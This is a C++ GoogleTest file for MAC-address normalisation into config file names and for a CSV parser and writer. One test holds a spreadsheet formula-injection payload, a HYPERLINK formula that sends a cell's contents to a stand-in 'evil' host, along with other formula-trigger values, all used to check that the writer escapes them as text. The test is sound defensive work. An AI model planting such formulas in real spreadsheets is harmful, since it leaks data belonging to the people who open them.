// The MAC spellings administrators use, and CSV as spreadsheets write it.
#include <gtest/gtest.h>

#include <span>
#include <string>
#include <utility>
#include <vector>

#include "model/csv.h"
#include "model/mac.h"

using namespace orbex;

TEST(Mac, EveryCommonSpellingGivesTheFileName) {
    for (const char* spelling :
         {"aa:bb:cc:dd:0e:ff", "AA-BB-CC-DD-0E-FF", "aabb.ccdd.0eff", "AABBCCDD0EFF",
          "aa^bb^cc^dd^0e^ff", "Aa:bB:cc:DD:0e:Ff", "  aa:bb:cc:dd:0e:ff\t", "\taabbccdd0eff \r\n"})
        EXPECT_EQ(macFileName(spelling), "AA^BB^CC^DD^0E^FF.cfg") << spelling;
}

TEST(Mac, AnythingElseIsRefused) {
    for (const char* spelling :
         {"", "aa:bb:cc:dd:ee", "aa:bb:cc:dd:ee:ff:00", "aabbccddeef", "aabbccddeeff0",
          "aa:bb-cc:dd:ee:ff", "aa:bb:cc:dd:ee:fg", "aabb.ccdd.eef", "aab.bccd.deeff",
          "aa bb cc dd ee ff", "aa:bb:cc dd:ee:ff", "aa::bb:cc:dd:ee:f", "a:abb:cc:dd:ee:ff",
          "aa.bb.cc.dd.ee.ff", "aabb:ccdd:eeff", "+aabbccddeeff"})
        EXPECT_EQ(parseMac(spelling), std::nullopt) << spelling;
}

TEST(Mac, FileNamesInEitherCase) {
    EXPECT_EQ(macOfFileName("AA^BB^CC^DD^EE^FF.cfg"), "AA^BB^CC^DD^EE^FF");
    EXPECT_EQ(macOfFileName("aa^bb^Cc^dd^ee^ff.cfg"), "AA^BB^CC^DD^EE^FF");
    for (const char* name : {"AA^BB^CC^DD^EE^FF.CFG", "AA^BB^CC^DD^EE.cfg", "AA:BB:CC:DD:EE:FF.cfg",
                             "AABBCCDDEEFF.cfg", "AA^BB^CC^DD^EE^FF", "AA^BB^CC^DD^EE^FG.cfg",
                             " AA^BB^CC^DD^EE^FF.cfg", "default.cfg"})
        EXPECT_EQ(macOfFileName(name), std::nullopt) << name;
}

namespace {

std::vector<csv::Row> parsed(std::string_view text) {
    csv::Error error;
    auto rows = csv::parse(text, error);
    EXPECT_TRUE(rows) << error.message;
    return rows ? *rows : std::vector<csv::Row>{};
}

}  // namespace

TEST(Csv, CommaOrSemicolonWithOrWithoutMark) {
    const std::vector<csv::Row> expected = {{"mac", "USERN"}, {"aa:bb:cc:dd:ee:ff", "x,y"}};
    EXPECT_EQ(parsed("mac,USERN\r\naa:bb:cc:dd:ee:ff,\"x,y\"\r\n"), expected);
    EXPECT_EQ(parsed("\xEF\xBB\xBFmac;USERN\naa:bb:cc:dd:ee:ff;x,y\n"), expected);
    // The first separator of the header decides; the other is text.
    EXPECT_EQ(parsed("\"a;b\",c;d\n1,2;3"), (std::vector<csv::Row>{{"a;b", "c;d"}, {"1", "2;3"}}));
}

TEST(Csv, QuotedFieldsEmptyFieldsAndLineEnds) {
    EXPECT_EQ(
        parsed("a,b,c\r\n\"say \"\"hi\"\"\",,\"two\r\nlines\"\r\n,,\n"),
        (std::vector<csv::Row>{{"a", "b", "c"}, {"say \"hi\"", "", "two\r\nlines"}, {"", "", ""}}));
    EXPECT_EQ(parsed("a,b"), (std::vector<csv::Row>{{"a", "b"}}));
    EXPECT_EQ(parsed("a,"), (std::vector<csv::Row>{{"a", ""}}));
    EXPECT_EQ(parsed("a\n\nb\n"), (std::vector<csv::Row>{{"a"}, {""}, {"b"}}));
    EXPECT_EQ(parsed(""), std::vector<csv::Row>{});
    EXPECT_EQ(parsed("\"\""), (std::vector<csv::Row>{{""}}));
}

TEST(Csv, BrokenQuotesNameTheirRow) {
    csv::Error error;
    EXPECT_EQ(csv::parse("a,b\n1,\"open\n", error), std::nullopt);
    EXPECT_EQ(error.row, 2);
    EXPECT_EQ(error.message, "a quoted field is not closed");
    EXPECT_EQ(csv::parse("a\nb\n\"x\"y,2\n", error), std::nullopt);
    EXPECT_EQ(error.row, 3);
    EXPECT_EQ(error.message, "text after a closing quote");
}

TEST(Csv, WrittenFieldsReadBack) {
    const std::vector<std::string> fields = {"plain", "",         "a,b",   "a;b",
                                             "q\"q",  "cr\rlf\n", " pad ", "Ж''"};
    std::vector<std::string_view> views(fields.begin(), fields.end());
    std::string out;
    csv::appendRow(out, views);
    csv::appendRow(out, views);
    EXPECT_EQ(out.substr(0, out.size() / 2),
              "plain,,\"a,b\",\"a;b\",\"q\"\"q\",\"cr\rlf\n\", pad ,Ж''\r\n");
    EXPECT_EQ(parsed(out), (std::vector<csv::Row>{fields, fields}));
}

TEST(Csv, OldSpreadsheetsEndLinesWithCrAlone) {
    const std::vector<csv::Row> expected = {{"name", "USERN"}, {"a", "two\rlines"}, {"b", ""}};
    EXPECT_EQ(parsed("name,USERN\ra,\"two\rlines\"\rb,\r"), expected);
    EXPECT_EQ(parsed("name;USERN\ra;\"two\rlines\"\rb;"), expected);
    // Each CR LF is one line end, and a CR before a LF is no empty line.
    EXPECT_EQ(parsed("a\r\rb\r\n\nc"), (std::vector<csv::Row>{{"a"}, {""}, {"b"}, {""}, {"c"}}));
}

TEST(Csv, FormulasAreWrittenAsTextAndReadBack) {
    const std::vector<std::pair<std::string, std::string>> cases = {
        {"=HYPERLINK(\"http://evil/?\"&C2,\"x\")",
         "\"'=HYPERLINK(\"\"http://evil/?\"\"&C2,\"\"x\"\")\""},
        {"+1", "'+1"},
        {"-1", "'-1"},
        {"@SUM(A1)", "'@SUM(A1)"},
        {"\tx", "'\tx"},
        {"\r=x", "\"'\r=x\""},
        {"'", "''"},
        {"'q", "''q"},
        {"=a,b", "\"'=a,b\""},
        {"a=b", "a=b"},
        {" =a", " =a"},
        {"", ""},
    };
    for (const auto& [field, written] : cases) {
        std::string out;
        csv::appendMarkedField(out, field);
        EXPECT_EQ(out, written) << field;
        const auto rows = parsed(out);
        const std::string cell = rows.empty() || rows[0].empty() ? "" : rows[0][0];
        EXPECT_EQ(csv::withoutTextMark(cell), field) << field;
    }
    // A lone quote has nothing after it to mark.
    EXPECT_EQ(csv::withoutTextMark("'"), "'");
    EXPECT_EQ(csv::withoutTextMark("=x"), "=x");
}

TEST(Csv, FieldsPastTheLimitAreReadButNotKept) {
    const std::string text = "a,b,c,,\"x\"\"y\",\n1,2\n,,,,,,,,\n\"p\"\"q\",\"r\"\"s\",,t\n";
    csv::Reader reader(text, 2);
    std::span<const std::string_view> fields;
    std::vector<std::pair<csv::Row, std::size_t>> records;
    while (reader.next(fields))
        records.push_back({csv::Row(fields.begin(), fields.end()), reader.filledBeyond()});
    EXPECT_FALSE(reader.error());
    EXPECT_EQ(records,
              (std::vector<std::pair<csv::Row, std::size_t>>{
                  {{"a", "b"}, 3}, {{"1", "2"}, 0}, {{"", ""}, 0}, {{"p\"q", "r\"s"}, 4}}));
    // A broken field past the limit is an error all the same.
    csv::Reader broken("a,b,c,\"d\n", 2);
    while (broken.next(fields)) {
    }
    ASSERT_TRUE(broken.error());
    EXPECT_EQ(broken.error()->message, "a quoted field is not closed");
}
